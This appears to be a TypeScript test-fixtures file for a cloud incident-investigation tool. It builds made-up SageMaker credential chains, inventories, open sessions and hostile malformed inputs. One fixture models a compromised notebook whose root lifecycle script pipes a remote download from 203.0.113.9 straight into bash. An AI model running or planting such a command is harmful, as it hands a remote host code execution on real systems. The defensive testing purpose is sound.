import type { FocusResult } from '../../src/focus/starting-point.ts';
import type { Enrichment } from '../../src/inventory/enrichment.ts';
import {
  emptyInventory,
  type Inventory,
  type InventoryItem,
  type InventoryPart,
} from '../../src/inventory/inventory.ts';
import type { ChainEvent, ChainLink, CredentialChain } from '../../src/model/chain.ts';
import type { TimelineEvent } from '../../src/model/event.ts';
import type { OpenDoor, OpenDoors } from '../../src/model/open-door.ts';
import { endpoint, hostile, job, NOW, notebook, role, story } from './fixtures.ts';

const evil = hostile(1).principal?.arn ?? '';
const MINUTE = 60_000;

const chainEvent = ({ rowId, id, at, action, region }: TimelineEvent): ChainEvent => ({
  rowId,
  id,
  at,
  action,
  region,
});
const [presigned, update, attach, train, last] = story().slice(60) as [
  TimelineEvent,
  TimelineEvent,
  TimelineEvent,
  TimelineEvent,
  TimelineEvent,
];

/** One link of a chain; members override. */
export const link = (over: Partial<CredentialChain['links'][number]> = {}): CredentialChain['links'][number] => ({
  handover: 'origin',
  name: 'ds-exec/alice',
  accessKeyId: 'ASIAEXAMPLEALICE0001',
  keys: 1,
  resource: role,
  by: undefined,
  certainty: 'recorded',
  why: 'the first record of this key is of 20:04:15',
  otherwise: [],
  until: undefined,
  events: 4,
  errors: 1,
  first: chainEvent(presigned),
  last: chainEvent(train),
  actions: [presigned, update, attach, train].map((each) => ({
    action: each.action,
    events: 1,
    isChange: each.readOnly === false,
    first: chainEvent(each),
  })),
  parent: undefined,
  ...over,
});

/** alice → presigned URL → notebook → role → reads, as the drill tells it; the row of the last event of the story stands for the reads. */
export const chain: CredentialChain = {
  links: [
    link(),
    link({
      handover: 'presigned',
      name: 'fraud-lab',
      accessKeyId: '',
      keys: 0,
      resource: notebook,
      by: chainEvent(presigned),
      why: 'CreatePresignedNotebookInstanceUrl names the notebook',
      until: NOW + 5 * MINUTE,
      events: 0,
      errors: 0,
      first: undefined,
      last: undefined,
      actions: [],
      parent: 0,
    }),
    link({
      handover: 'compute',
      name: 'ds-exec/bob',
      accessKeyId: 'ASIAEXAMPLEEXAMPLE00',
      keys: 2,
      certainty: 'inferred',
      why: 'fraud-lab runs as ds-exec (DescribeNotebookInstance)',
      otherwise: [chainEvent(update)],
      events: 61,
      errors: 0,
      first: chainEvent(last),
      last: chainEvent(last),
      actions: [{ action: 's3:GetObject', events: 36, isChange: false, first: chainEvent(last) }],
      parent: 1,
    }),
    link({
      handover: 'issued',
      name: 'ds-exec/second',
      accessKeyId: 'ASIAEXAMPLESECOND001',
      why: 'AssumeRole names the key',
      by: chainEvent(update),
      parent: 0,
    }),
  ],
  at: 0,
  searched: [
    {
      what: 'the AssumeRole that issued ASIAEXAMPLEALICE0001 is not among the events of us-east-1 since 13:02',
      lookup: { attribute: 'AccessKeyId', value: 'ASIAEXAMPLEALICE0001' },
      regions: ['eu-west-1', 'us-west-2'],
    },
  ],
  sameSecond: [[1, 3]],
  more: [{ parent: 0, links: 12 }],
};

const deep: ChainLink & { parent: number | undefined } = link();

/** Chains that look different from each other. */
export const chains: { readonly [title: string]: CredentialChain } = {
  'the drill': chain,
  'one link': { links: [link({ why: '' })], at: 0, searched: [], sameSecond: [], more: [] },
  'no credentials': { links: [], at: -1, searched: [], sameSecond: [], more: [] },
  'thousands, one in another': {
    links: Array.from({ length: 2000 }, (_, index) => ({
      ...deep,
      name: `role-${index}`,
      parent: index ? index - 1 : undefined,
    })),
    at: 900,
    searched: [],
    sameSecond: [Array.from({ length: 50 }, (_, index) => index + 880)],
    more: [],
  },
  'a cycle': {
    links: [link({ parent: 1 }), link({ parent: 0 }), link({ parent: 2 })],
    at: 1,
    searched: [],
    sameSecond: [],
    more: [],
  },
  hostile: {
    links: [
      link({ name: evil, accessKeyId: evil, why: evil.repeat(9), certainty: 'inferred', until: 9e15 }),
      link({
        name: '',
        handover: 'presigned',
        resource: { kind: evil, arn: evil, name: evil },
        accessKeyId: '',
        why: evil,
        by: { rowId: 1, id: evil, at: Number.NaN, action: evil, region: evil },
        actions: [
          {
            action: evil,
            events: 1e9,
            isChange: true,
            first: { rowId: 1, id: evil, at: 9e15, action: evil, region: evil },
          },
        ],
        parent: 0,
      }),
      link({ name: '数据库工程师'.repeat(20), parent: 1 }),
    ],
    at: 0,
    searched: [{ what: evil.repeat(5), regions: [evil] }],
    sameSecond: [],
    more: [],
  },
};

/** One item of the inventory; members override. */
export const item = (index: number, over: Partial<InventoryItem> = {}): InventoryItem => ({
  ref: { ...job, name: `miner-${index}`, arn: `${job.arn}-${index}` },
  account: '111122223333',
  region: index % 3 ? 'us-east-1' : 'eu-west-1',
  state: 'InProgress',
  activity: 'running',
  role,
  createdAt: NOW - index * MINUTE,
  modifiedAt: undefined,
  creator: 'ds-exec/alice',
  compute: 'ml.p4d.24xlarge × 4',
  accelerated: index % 2 === 0,
  internet: index % 2 === 0,
  notInEvents: index % 3 === 0,
  relations: [],
  listedAt: NOW - 20_000,
  readAt: NOW - 20_000,
  details: 'loaded',
  detailsWhy: '',
  ...over,
});

const part = (index: number, over: Partial<InventoryPart> = {}): InventoryPart => ({
  account: '111122223333',
  region: index % 2 ? 'us-east-1' : 'eu-west-1',
  kind: ['sagemaker.training-job', 'sagemaker.endpoint', 'sagemaker.app'][index % 3] ?? '',
  title: ['training jobs', 'endpoints', 'apps'][index % 3] ?? '',
  state: 'loaded',
  why: '',
  items: 2,
  more: false,
  at: NOW,
  ...over,
});

/** What runs in the made-up account. */
export const inventory: Inventory = {
  items: [
    item(1, { accelerated: true, notInEvents: true }),
    item(2),
    item(3, {
      activity: 'changing',
      state: 'Creating',
      compute: undefined,
      role: undefined,
      details: 'waiting',
      internet: undefined,
    }),
    item(4, {
      ref: notebook,
      accelerated: false,
      state: 'InService',
      compute: 'ml.t3.medium',
      createdAt: NOW - 40 * 24 * 3600_000,
      notInEvents: undefined,
      details: 'missing',
      detailsWhy: 'denied: sagemaker:DescribeNotebookInstance',
    }),
    item(5, { ref: endpoint, accelerated: false, state: 'Failed', activity: 'running' }),
    item(6, { activity: 'idle', state: 'Stopped', accelerated: false, compute: undefined }),
  ],
  parts: [
    part(0, { state: 'denied', why: 'sagemaker:ListTrainingJobs' }),
    part(1, { state: 'loading' }),
    part(2, { state: 'failed', why: 'ThrottlingException: Rate exceeded' }),
    part(3, { more: true }),
    ...Array.from({ length: 20 }, (_, index) => part(index + 4)),
  ],
  loading: true,
  completeAt: NOW - 20_000,
};

/** Inventories that look different from each other. */
export const inventories: { readonly [title: string]: Inventory } = {
  'not asked yet': emptyInventory,
  loading: {
    items: [],
    parts: [part(0, { state: 'loading' }), part(1, { state: 'waiting' })],
    loading: true,
    completeAt: undefined,
  },
  'nothing there': { items: [], parts: [part(0), part(1)], loading: false, completeAt: NOW },
  denied: {
    items: [],
    parts: [0, 1, 2, 3].map((index) => part(index, { state: 'denied', why: 'sagemaker:ListApps' })),
    loading: false,
    completeAt: NOW,
  },
  'one item': { items: [item(1, { region: 'us-east-1' })], parts: [part(1)], loading: false, completeAt: NOW },
  some: inventory,
  thousands: {
    items: Array.from({ length: 5000 }, (_, index) =>
      item(index, { account: index % 2 ? '444455556666' : '111122223333' }),
    ),
    parts: inventory.parts,
    loading: false,
    completeAt: NOW,
  },
  hostile: {
    items: Array.from({ length: 40 }, (_, index) =>
      item(index, {
        ref: { kind: evil, arn: evil, name: index % 2 ? 'x'.repeat(10_000) : '数据库'.repeat(40) },
        account: index % 2 ? evil : '',
        region: evil,
        state: evil,
        creator: evil,
        compute: evil,
        createdAt: Number.NaN,
        details: 'missing',
        detailsWhy: evil,
      }),
    ),
    parts: [part(0, { region: evil, title: evil, why: evil, state: 'failed' })],
    loading: false,
    completeAt: NOW,
  },
};

/** One door; members override. */
export const door = (index: number, over: Partial<OpenDoor> = {}): OpenDoor => ({
  id: `door-${index}`,
  kind: 'session',
  what: 'session of alice on notebook fraud-lab, opened by presigned URL',
  resource: notebook,
  principal: 'ds-exec/alice',
  account: '111122223333',
  region: 'us-east-1',
  proof: { type: 'event', eventId: presigned.id, at: presigned.at, action: presigned.action },
  until: NOW + (index + 1) * 11 * MINUTE,
  count: index % 4 === 1 ? 3 : 1,
  suspect: true,
  certainty: 'seen',
  closeWith: { actionId: 'test.interrupts', target: notebook },
  why: 'the URL is spent, the session it opened lives for twelve hours; only stopping the notebook ends it',
  ...over,
});

const aMixture: readonly OpenDoor[] = [
  door(0, {
    kind: 'presigned-url',
    certainty: 'possible',
    until: NOW + 92_000,
    what: 'URL for notebook fraud-lab, minted by alice',
  }),
  door(1),
  door(2, {
    kind: 'copied-role-credentials',
    what: 'credentials of ds-exec, used from 203.0.113.9',
    resource: role,
    closeWith: { actionId: 'test.seconds', target: role },
  }),
  door(3, {
    kind: 'access-key',
    what: 'AKIAEXAMPLE of alice is active',
    until: undefined,
    proof: { type: 'read', operation: 'iam:ListAccessKeys', at: NOW },
  }),
  door(4, {
    kind: 'outside-share',
    what: 'model group fraud is shared with 999988887777',
    until: undefined,
    closeWith: undefined,
    why: 'the account owner has to',
  }),
  door(6, { suspect: false, principal: 'ds-exec/bob', what: 'session of bob on notebook nlp' }),
  door(5, { suspect: false, kind: 'schedule', what: 'rule nightly starts pipeline fraud', until: NOW - 1000 }),
];

/** What is still open, in states that look different. */
export const openDoors: { readonly [title: string]: OpenDoors } = {
  'not looked yet': { doors: [], unknown: [], at: undefined },
  'nothing known': { doors: [], unknown: [], at: NOW },
  'nothing known, some not looked at': {
    doors: [],
    unknown: ['schedules: scheduler:ListSchedules is denied', 'shares: not read in eu-west-1'],
    at: NOW,
  },
  'none of a suspect': { doors: [door(1, { suspect: false })], unknown: [], at: NOW },
  'one door': { doors: [door(1)], unknown: [], at: NOW },
  some: { doors: aMixture, unknown: ['schedules: scheduler:ListSchedules is denied'], at: NOW },
  thousands: { doors: Array.from({ length: 3000 }, (_, index) => door(index)), unknown: ['a'.repeat(2000)], at: NOW },
  hostile: {
    doors: Array.from({ length: 40 }, (_, index) =>
      door(index, {
        what: index % 2 ? evil : '数据库'.repeat(80),
        principal: evil,
        region: evil,
        account: evil,
        why: evil.repeat(5),
        until: index % 2 ? Number.NaN : 9e15,
        proof: { type: 'event', eventId: evil, at: Number.NaN, action: evil },
        closeWith: { actionId: evil, target: { kind: evil, arn: evil, name: evil } },
      }),
    ),
    unknown: [evil, evil.repeat(30)],
    at: NOW,
  },
};

const nothingSaid: Enrichment = {
  ref: notebook,
  state: 'loading',
  why: '',
  status: '',
  role: undefined,
  facts: [],
  relations: [],
  scripts: [],
  exposures: [],
  problems: [],
  at: undefined,
};

/** What AWS says about the notebook, in states that look different. */
export const enrichments: { readonly [title: string]: Enrichment } = {
  asking: nothingSaid,
  loaded: {
    ...nothingSaid,
    state: 'loaded',
    status: 'InService',
    role,
    facts: [
      { label: 'root access', value: 'Enabled', proof: 'sagemaker:DescribeNotebookInstance', at: NOW },
      { label: 'internet', value: 'Enabled', proof: 'sagemaker:DescribeNotebookInstance', at: NOW },
    ],
    relations: [
      {
        role: 'lifecycle-config',
        to: { kind: 'sagemaker.notebook-instance-lifecycle-config', arn: '', name: 'evil' },
        proof: 'sagemaker:DescribeNotebookInstance',
      },
      {
        role: 's3-sink',
        to: { kind: 's3.bucket', arn: '', name: 'loot' },
        proof: 'x:Describe',
        outside: true,
        note: 'not ours',
      },
    ],
    scripts: [
      {
        title: 'runs as root at every start',
        text: '#!/bin/bash\nset -e\ncurl -s http://203.0.113.9/x.sh | bash\n\techo done',
        cut: false,
        proof: 'sagemaker:DescribeNotebookInstanceLifecycleConfig',
        at: NOW,
      },
    ],
    exposures: [
      {
        who: 'alice, from 198.51.100.7',
        at: NOW - MINUTE,
        urlUntil: NOW + 4 * MINUTE,
        until: NOW + 12 * 3600_000,
        eventId: presigned.id,
      },
    ],
    problems: ['tags: sagemaker:ListTags is denied'],
    at: NOW,
  },
  denied: { ...nothingSaid, state: 'denied', why: 'sagemaker:DescribeNotebookInstance', at: NOW },
  gone: { ...nothingSaid, state: 'gone', why: 'not found', at: NOW },
  failed: { ...nothingSaid, state: 'failed', why: 'connect ECONNREFUSED', at: NOW },
  'nobody to ask': { ...nothingSaid, state: 'unknown', why: 'these are saved logs: there is no account to ask' },
  hostile: {
    ...nothingSaid,
    state: 'loaded',
    status: evil,
    role: { kind: evil, arn: evil, name: evil },
    facts: [{ label: evil, value: evil.repeat(9), proof: evil, at: Number.NaN }],
    relations: [{ role: evil, to: { kind: evil, arn: evil, name: evil }, proof: evil, outside: true, note: evil }],
    scripts: [{ title: evil, text: `${evil}\n${'x'.repeat(16_000)}\r\n数据库`, cut: true, proof: evil, at: NOW }],
    exposures: [{ who: evil, at: Number.NaN, urlUntil: Number.NaN, until: 9e15, eventId: evil }],
    problems: [evil],
    at: Number.NaN,
  },
};

/** What a focus answers. */
export const focusResult: FocusResult = {
  name: 'fraud-lab',
  accounts: ['111122223333'],
  regions: ['us-east-1'],
  filter: { type: 'field', field: 'resource', op: 'is', value: 'fraud-lab' },
  landing: { filters: [], newAddress: false },
  lookups: [{ attribute: 'ResourceName', value: 'fraud-lab' }],
  resources: [notebook],
  keys: [],
  sentences: ['notebook instance fraud-lab in us-east-1: its events, its role, its log group'],
  unused: ['address 203.0.113.9: searched in what is loaded; the event history cannot look for addresses'],
  otherAccounts: [
    { account: '444455556666', profiles: ['audit'] },
    { account: '999988887777', profiles: [] },
  ],
};

/** A hostile one. */
export const hostileFocus: FocusResult = {
  ...focusResult,
  filter: { type: 'field', field: 'resource', op: 'is', value: evil },
  lookups: [{ attribute: 'ResourceName', value: evil }],
  sentences: [evil.repeat(4)],
  unused: [evil],
  otherAccounts: [{ account: evil, profiles: [evil] }],
};
